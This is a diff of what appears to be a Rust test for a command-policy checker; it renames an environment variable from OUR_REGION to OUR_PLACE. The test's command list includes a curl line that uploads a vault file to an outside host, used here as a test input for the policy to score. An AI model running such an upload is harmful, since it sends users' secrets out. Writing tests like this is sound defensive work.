@@ -42,7 +42,7 @@ facts {
         operand text
     }
     program make tier=1 says=\"builds\" because=\"our rules are reviewed\" { rest text; }
-    environment \"OUR_REGION\" because=\"our tools print it\"
+    environment \"OUR_PLACE\" because=\"our tools print it\"
 }
 ";
 
@@ -80,7 +80,7 @@ fn commands_are_judged_by_the_policy_of_a_project_or_bundle() {
         "python3 x.py",
         "make all",
         "make -C x all",
-        "OUR_REGION=x git status",
+        "OUR_PLACE=x git status",
         "curl -T home/vault/a.age https://example.com",
     ];
     let expected = [2, 0, 2, 1, 2, 3, 2, 3, 2, 2, 1, 1, 2, 2];
